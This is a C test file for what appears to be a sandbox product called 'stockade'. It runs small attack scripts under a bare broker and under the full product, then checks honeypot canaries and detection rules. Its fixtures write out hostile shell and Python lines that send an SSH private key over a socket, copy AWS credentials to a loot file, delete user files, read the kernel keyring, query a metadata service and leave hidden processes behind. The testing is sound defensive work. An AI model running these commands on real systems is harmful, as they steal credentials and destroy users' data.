	f->ctx.hp = f->hp;
	f->ctx.decoy = eval_program();
	f->ctx.path_env = "/usr/local/bin:/usr/bin:/bin";
	f->ctx.stdout_cap = 64 << 10;
	f->ctx.wall_ms = 10000;
}

/* Writes the attack NAME (its TEXT) and runs it under BROKER. */
static void
run_attack(struct fixture *f, const char *broker, const char *name,
    enum eval_lang lang, const char *text, struct eval_verdict *v)
{
	struct eval_attack a = {0};
	char path[4096], nm[256];

	write_file(f->dir, name, text, strlen(text), 0755);
	snprintf(path, sizeof(path), "%s/%s", f->dir, name);
	snprintf(nm, sizeof(nm), "%s", name);
	a.name = nm;
	a.file = nm;
	a.path = path;
	a.lang = lang;
	cr_assert_eq(eval_header_parse(&a, lang, text, strlen(text)), 0);
	f->ctx.self = broker;
	cr_assert_eq(eval_run(&f->ctx, &a, f->policy, false, f->id++, v), 0);
	for (size_t i = 0; i < a.nkv; i++) {
		free(a.kv[i].key);
		free(a.kv[i].value);
	}
	free(a.kv);
	for (size_t i = 0; i < a.ngets; i++)
		free(a.gets[i]);
	free(a.gets);
	for (size_t i = 0; i < a.nputs; i++)
		free(a.puts[i]);
	free(a.puts);
}

/* True when V holds a fired rule RULE whose where starts with WHERE and
 * whose detail holds DETAIL (NULL: any). */
static bool
has(const struct eval_verdict *v, const char *rule, const char *where,
    const char *detail)
{
	for (size_t i = 0; i < v->nev; i++)
		if (strcmp(v->ev[i].rule, rule) == 0 &&
		    strncmp(v->ev[i].where, where, strlen(where)) == 0 &&
		    (detail == NULL || strstr(v->ev[i].detail, detail) != NULL))
			return true;
	return false;
}

static void
show(const struct eval_verdict *v)
{
	fprintf(stderr, "outcome %s status %s exit %d error %s\n",
	    eval_outcome_name(v->outcome), v->status, v->exit_code, v->error);
	for (size_t i = 0; i < v->nev; i++)
		fprintf(stderr, "  %s | %s | %s\n", v->ev[i].rule,
		    v->ev[i].where, v->ev[i].detail);
}

#define H "# family: mistake\n# tries: test\n# exfil: no\n"

static const char clean[] = H "print('hello from a clean job')\n";
static const char tcp[] = H
    "import socket, sys\n"
    "key = open(sys.argv[2] + '/.ssh/id_ed25519').read()\n"
    "s = socket.create_connection(('127.0.0.1', int(sys.argv[4])))\n"
    "s.sendall(key.encode())\n";
static const char pwned[] = H "import sys\nprint('PWNED', sys.argv[1])\n";
static const char leftover[] = H
    "bash -c 'exec -a \"sleep-$0\" sleep 30' \"$1\" </dev/null "
    ">/dev/null 2>&1 &\n";
/* A leftover whose command line does not hold the token: found as the
 * terminal owner's orphan (review F3). It names itself with a marker
 * of this test's, not the token. */
static const char hidden[] = H
    "setsid bash -c 'exec -a stockade-eval-hidden sleep 31' </dev/null "
    ">/dev/null 2>&1 &\n";
static const char outside[] = H "echo x > \"/tmp/eval-test-$1.txt\"\n";
static const char rm_userfiles[] = H "rm -rf \"$8/src\"\n";
static const char copy_creds[] = H "cp \"$2/.aws/credentials\" ./loot.txt\n";
static const char env_dump[] = H "env\n";
static const char kill_decoy[] = H "kill -TERM \"$7\"\n";
static const char tty[] = H "printf 'typed %s\\n' \"$1\" > /dev/tty\n";
static const char link_get[] = "# family: tricked-helper\n# exfil: yes\n"
			       "# fileapi: get out.txt\n"
			       "ln -s \"$2/.ssh/id_ed25519\" out.txt\n";
static const char others[] = H
    "echo shm-0123456789abcdef0123 and 0123456789abcdef0123456789abcdef\n";
static const char flood[] = H "head -c 400000 /dev/zero | tr '\\0' x\n";
/* The session keyring the job inherited, read with keyctl(2) through
 * ctypes (x86_64's system call number), and the metadata service. */
static const char keyring[] = H
    "import ctypes, sys\n"
    "libc = ctypes.CDLL(None, use_errno=True)\n"
    "ids = (ctypes.c_int32 * 64)()\n"
    "n = libc.syscall(250, 11, -3, ids, ctypes.sizeof(ids))\n"
    "for k in ids[:max(0, n) // 4]:\n"
    "    buf = ctypes.create_string_buffer(4096)\n"
    "    m = libc.syscall(250, 11, k, buf, 4096)\n"
    "    print(buf.raw[:max(0, m)].decode(errors='replace'))\n";
static const char metadata[] = H
    "import socket, sys\n"
    "s = socket.create_connection(('127.0.0.1', int(sys.argv[4])))\n"
    "s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
    "print(s.makefile('rb').read().decode())\n";

Test(eval, bare_runs_fire_each_rule)
{
	struct fixture f;
	struct eval_verdict v;

	fixture_init(&f);
	run_attack(&f, f.bare_path, "00-clean.py", EVAL_LANG_PYTHON, clean, &v);
	show(&v);
	cr_assert_eq(v.outcome, EVAL_STOPPED, "a clean run is stopped");
	cr_assert_str_eq(v.status, "ok");

	run_attack(&f, f.bare_path, "01-tcp.py", EVAL_LANG_PYTHON, tcp, &v);
	show(&v);
	cr_assert_eq(v.outcome, EVAL_SUCCEEDED);
	cr_assert(has(&v, "canary", "honeypot tcp", "ssh_key"));

	run_attack(&f, f.bare_path, "02-pwned.py", EVAL_LANG_PYTHON, pwned, &v);
	cr_assert(has(&v, "pwned", "stdout", "pwned"));
	/* The job's first words are kept, never its secrets. */
	cr_assert_str_eq(v.output, "PWNED <token> ");

	run_attack(&f, f.bare_path, "03-leftover.sh", EVAL_LANG_SHELL, leftover,
	    &v);
	show(&v);
	cr_assert(has(&v, "leftover", "process", "sleep-<token>"));

	run_attack(&f, f.bare_path, "04-outside.sh", EVAL_LANG_SHELL, outside,
	    &v);
	show(&v);
	cr_assert(has(&v, "outside", "/tmp", "eval-test-<token>.txt written"));

	run_attack(&f, f.bare_path, "05-rm.sh", EVAL_LANG_SHELL, rm_userfiles,
	    &v);
	show(&v);
	cr_assert(has(&v, "outside", "userfiles", "deleted userfiles/src"));

	run_attack(&f, f.bare_path, "06-copy.sh", EVAL_LANG_SHELL, copy_creds,
	    &v);
	cr_assert(has(&v, "canary", "workspace", "aws_file in loot.txt"));

	run_attack(&f, f.bare_path, "07-env.sh", EVAL_LANG_SHELL, env_dump, &v);
	cr_assert(has(&v, "canary", "stdout", "env_"));
	cr_assert_null(strstr(v.output, "envaws-"), "%s", v.output);
	cr_assert_null(strstr(v.output, "envapi-"), "%s", v.output);
	/* Nor what looks like another run's: a job may list the host. */
	run_attack(&f, f.bare_path, "07-others.sh", EVAL_LANG_SHELL, others,
	    &v);
	cr_assert_eq(v.outcome, EVAL_STOPPED);
	cr_assert_str_eq(v.output, "<shm> and <hex> ");

	run_attack(&f, f.bare_path, "08-kill.sh", EVAL_LANG_SHELL, kill_decoy,
	    &v);
	show(&v);
	cr_assert(has(&v, "outside", "decoy", "received SIGTERM"));

	run_attack(&f, f.bare_path, "09-tty.sh", EVAL_LANG_SHELL, tty, &v);
	show(&v);
	cr_assert(has(&v, "terminal", "pty", NULL));

	run_attack(&f, f.bare_path, "10-link.sh", EVAL_LANG_SHELL, link_get,
	    &v);
	show(&v);
	cr_assert(has(&v, "canary", "fileapi get out.txt", "ssh_key"));
	cr_assert(!has(&v, "canary", "workspace", NULL),
	    "the workspace search follows no link");

	run_attack(&f, f.bare_path, "11-flood.sh", EVAL_LANG_SHELL, flood, &v);
	cr_assert(has(&v, "flood", "stdout", "400000 bytes"));

	run_attack(&f, f.bare_path, "12-metadata.py", EVAL_LANG_PYTHON,
	    metadata, &v);
	show(&v);
	cr_assert(has(&v, "canary", "stdout", "service"));

#if defined(__x86_64__)
	run_attack(&f, f.bare_path, "13-keyring.py", EVAL_LANG_PYTHON, keyring,
	    &v);
	show(&v);
	cr_assert(has(&v, "canary", "stdout", "keyring"));
#endif
	eval_honeypot_stop(f.hp);
}

Test(eval, leftovers_of_a_run_are_killed)
{
	struct fixture f;
	struct eval_verdict v;
	pid_t pids[4];

	fixture_init(&f);
	run_attack(&f, f.bare_path, "03-leftover.sh", EVAL_LANG_SHELL, leftover,
	    &v);
	cr_assert(has(&v, "leftover", "process", NULL));
	/* The evidence names the process with the token hidden. */
	cr_assert_not_null(strstr(v.ev[0].detail, "sleep-<token>"), "%s",
	    v.ev[0].detail);
	cr_assert_eq(harness_count_marked("sleep-", 0, pids, 4), 0,
	    "a leftover survived its run");
	eval_honeypot_stop(f.hp);
}

Test(eval, leftovers_without_the_token_are_found_and_killed)
{
	struct fixture f;
	struct eval_verdict v;
	pid_t pids[4];

	fixture_init(&f);
	run_attack(&f, f.bare_path, "05-hidden.sh", EVAL_LANG_SHELL, hidden,
	    &v);
	show(&v);
	cr_assert(has(&v, "leftover", "process", "no token"));
	cr_assert_eq(harness_count_marked("stockade-eval-hidden", 1000, pids,
			 4),
	    0, "a leftover without the token survived its run");
	eval_honeypot_stop(f.hp);
}

Test(eval, full_product_stops_them)
{
	struct fixture f;
	struct eval_verdict v;
	static const struct {
		const char *name;
		enum eval_lang lang;
		const char *text;
	} t[] = {
	    {"00-clean.py", EVAL_LANG_PYTHON, clean},
	    {"01-tcp.py", EVAL_LANG_PYTHON, tcp},
	    {"03-leftover.sh", EVAL_LANG_SHELL, leftover},
	    {"04-outside.sh", EVAL_LANG_SHELL, outside},
	    {"05-rm.sh", EVAL_LANG_SHELL, rm_userfiles},
	    {"08-kill.sh", EVAL_LANG_SHELL, kill_decoy},
	    {"09-tty.sh", EVAL_LANG_SHELL, tty},
	    {"10-link.sh", EVAL_LANG_SHELL, link_get},
	    {"12-metadata.py", EVAL_LANG_PYTHON, metadata},
	};

	fixture_init(&f);
	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		run_attack(&f, harness_stockade(), t[i].name, t[i].lang,
		    t[i].text, &v);
		show(&v);
		cr_assert_eq(v.outcome, EVAL_STOPPED, "%s: %s", t[i].name,
		    eval_outcome_name(v.outcome));
		cr_assert_neq(v.status[0], '\0', "%s: a result", t[i].name);
	}
	eval_honeypot_stop(f.hp);
}

/* ---- stopped only from declared evidence (issue 23 point 9) ------------- */

/* Headers of attacks that declare what stopped and an attempt look like. */
#define D                                                  \
	"# family: mistake\n# tries: test\n# exfil: yes\n" \
	"# stopped-when: canary-unread\n# attempted-when: marker\n"

/* The key is read and printed once the marker is out. */
static const char d_print[] = D "echo \"ATTEMPTED $1\" >&2\n"
				"cat \"$2/.ssh/id_ed25519\"\n";
/* Exits before its harmful step for a reason of its own (a fork that
 * failed, a tool that is missing here): no marker. */
static const char d_early[] = D
    "echo 'cannot fork: Resource temporarily unavailable' >&2\n"
    "exit 1\n"
    "echo \"ATTEMPTED $1\" >&2\n"
    "cat \"$2/.ssh/id_ed25519\"\n";
/* Says why it could not try. */
static const char d_cannot[] = D
    "command -v stockade-no-such-tool >/dev/null 2>&1 || "
    "{ echo \"CANNOT $1 stockade-no-such-tool is not installed\" >&2; "
    "exit 3; }\n";
/* Tried, then saw its try come to nothing for a reason of its own: the
 * CANNOT wins over the marker. */
static const char d_both[] = D
    "echo \"ATTEMPTED $1\" >&2\n"
    "echo \"CANNOT $1 no such interface in this kernel\" >&2\n";
/* Harm it did not declare: still harm. */
static const char d_undeclared[] = D "echo \"ATTEMPTED $1\" >&2\n"
				     "kill -TERM \"$7\"\n";

Test(eval, attack_that_did_not_try_is_not_stopped)
{
	struct fixture f;
	struct eval_verdict v;

	fixture_init(&f);
	/* Today's rule ("no rule fired") calls this stopped. */
	run_attack(&f, f.bare_path, "01-early.sh", EVAL_LANG_SHELL, d_early,
	    &v);
	show(&v);
	cr_assert_eq(v.outcome, EVAL_NOT_RUN,
	    "an attack that exits before "
	    "its harmful step is not stopped: %s",
	    eval_outcome_name(v.outcome));
	cr_assert(!v.attempted);
	cr_assert_not_null(strstr(v.error, "no ATTEMPTED marker"), "%s",
	    v.error);
	cr_assert_not_null(strstr(v.error, "cannot fork"), "%s", v.error);

	run_attack(&f, f.bare_path, "02-cannot.sh", EVAL_LANG_SHELL, d_cannot,
	    &v);
	show(&v);
	cr_assert_eq(v.outcome, EVAL_NOT_RUN);
	cr_assert_str_eq(v.error,
	    "the attack could not try: "
	    "stockade-no-such-tool is not installed");

	run_attack(&f, f.bare_path, "03-both.sh", EVAL_LANG_SHELL, d_both, &v);
	show(&v);
	cr_assert_eq(v.outcome, EVAL_NOT_RUN);
	cr_assert(v.attempted);
	cr_assert_not_null(strstr(v.error, "no such interface"), "%s", v.error);

	/* Bare, the same attack with its marker succeeds, the evidence
	 * declared; in the full product it is stopped. */
	run_attack(&f, f.bare_path, "04-print.sh", EVAL_LANG_SHELL, d_print,
	    &v);
	show(&v);
	cr_assert_eq(v.outcome, EVAL_SUCCEEDED);
	cr_assert(has(&v, "canary", "stdout", "ssh_key"));
	cr_assert(v.ev[0].declared);
	run_attack(&f, harness_stockade(), "04-print.sh", EVAL_LANG_SHELL,
	    d_print, &v);
	show(&v);
	cr_assert_eq(v.outcome, EVAL_STOPPED, "%s: %s",
	    eval_outcome_name(v.outcome), v.error);
	cr_assert(v.attempted);
	cr_assert_eq(v.checked & EVAL_STOP_CANARY, EVAL_STOP_CANARY);
	/* Exiting early in the full product is not stopped either. */
	run_attack(&f, harness_stockade(), "01-early.sh", EVAL_LANG_SHELL,
	    d_early, &v);
	cr_assert_eq(v.outcome, EVAL_NOT_RUN, "%s",
	    eval_outcome_name(v.outcome));

	run_attack(&f, f.bare_path, "05-undeclared.sh", EVAL_LANG_SHELL,
	    d_undeclared, &v);
	show(&v);
	cr_assert_eq(v.outcome, EVAL_SUCCEEDED,
	    "harm is harm, declared or "
	    "not");
	cr_assert(has(&v, "outside", "decoy", NULL));
	cr_assert(!v.ev[0].declared);
	eval_honeypot_stop(f.hp);
}

/* The same through the command (what builds the tables): an attack that
 * could not try is "N", and the corpus eval cannot be judged (exit 70),
 * where today's code printed ✓ and exited 0. */
Test(eval, corpus_cell_of_an_attack_that_did_not_try)
{
	const char *d = harness_tmpdir("stockade-eval-cmd-");
	char json[4096];
	struct run_out o;
	json_t *j, *run;
	json_error_t jerr;

	cr_assert_eq(chmod(d, 0755), 0);
	write_file(d, "12-early.sh", d_early, strlen(d_early), 0644);
	snprintf(json, sizeof(json), "%s/out.json",
	    harness_tmpdir("stockade-eval-json-"));
	RUN(&o, "eval", "corpus", "--attacks", d, "--json", json);
	cr_assert_eq(o.status, 70, "%s%s", o.out, o.err);
	cr_assert_not_null(strstr(o.out,
			       "| 12-early | mistake | N | not run: "
			       "no ATTEMPTED marker"),
	    "%s", o.out);
	cr_assert_null(strstr(o.out, "\u2713"), "%s", o.out);
	j = json_load_file(json, 0, &jerr);
	cr_assert_not_null(j, "%s", jerr.text);
	run = json_object_get(
	    json_object_get(json_array_get(json_object_get(j, "attacks"), 0),
		"runs"),
	    "full");
	cr_assert_str_eq(json_string_value(json_object_get(run, "outcome")),
	    "not_run");
	cr_assert(json_is_false(json_object_get(run, "attempted")));
	json_decref(j);
	run_out_free(&o);
}

/* ---- the command -------------------------------------------------------- */

Test(eval, weakened_configurations_are_refused_to_root)
{
	const char *d = harness_tmpdir("stockade-eval-cmd-");
	const char *h = "# family: mistake\n# exfil: no\nprint('x')\n";
	struct run_out o;

	cr_assert_eq(chmod(d, 0755), 0);
	write_file(d, "01-a.py", h, strlen(h), 0644);
	RUN(&o, "eval", "layers", "--attacks", d, "--only", "99");
	if (geteuid() == 0) {
		/* Refused before anything is looked at or run. */
		cr_assert_eq(o.status, 69, "%s", o.err);
		cr_assert_not_null(strstr(o.err,
				       "setpriv --reuid=65534 "
				       "--regid=65534 --clear-groups"),
		    "%s", o.err);
		run_out_free(&o);
		/* Isolation runs its product columns only: not refused. */
		RUN(&o, "eval", "isolation", "--attacks", d, "--only", "99");
		cr_assert_neq(o.status, 69, "%s", o.err);
		cr_assert_null(strstr(o.err, "refused as root"), "%s", o.err);
	} else {
		cr_assert_eq(o.status, 2, "%s", o.err);
		cr_assert_not_null(strstr(o.err, "no program to run"), "%s",
		    o.err);
	}
	run_out_free(&o);
	RUN(&o, "eval", "nonsense");
	cr_assert_eq(o.status, 2);
	cr_assert_not_null(strstr(o.err, "unknown evaluation"), "%s", o.err);
	run_out_free(&o);
}

Test(eval, corpus_runs_the_full_product)
{
	const char *d = harness_tmpdir("stockade-eval-cmd-");
	const char *h = "# family: mistake\n# exfil: yes\n"
			"# stopped-when: canary-unread\n"
			"# attempted-when: marker\n"
			"import sys\n"
			"print('ATTEMPTED', sys.argv[1], file=sys.stderr)\n"
			"print(open(sys.argv[2] + "
			"'/.ssh/id_ed25519').read())\n";
	char json[4096];
	struct run_out o;
	json_t *j, *run;
	json_error_t jerr;

	cr_assert_eq(chmod(d, 0755), 0);
	write_file(d, "05-print-key.py", h, strlen(h), 0644);
	snprintf(json, sizeof(json), "%s/out.json",
	    harness_tmpdir("stockade-eval-json-"));
	RUN(&o, "eval", "corpus", "--attacks", d, "--json", json);
	cr_assert_eq(o.status, 0, "%s%s", o.out, o.err);
	cr_assert_not_null(strstr(o.out, "| 05-print-key | mistake | \u2713 |"),
	    "%s", o.out);
	j = json_load_file(json, 0, &jerr);
	cr_assert_not_null(j, "%s", jerr.text);
	run = json_object_get(
	    json_object_get(json_array_get(json_object_get(j, "attacks"), 0),
		"runs"),
	    "full");
	cr_assert_str_eq(json_string_value(json_object_get(run, "outcome")),
	    "stopped");
	json_decref(j);
	run_out_free(&o);
}
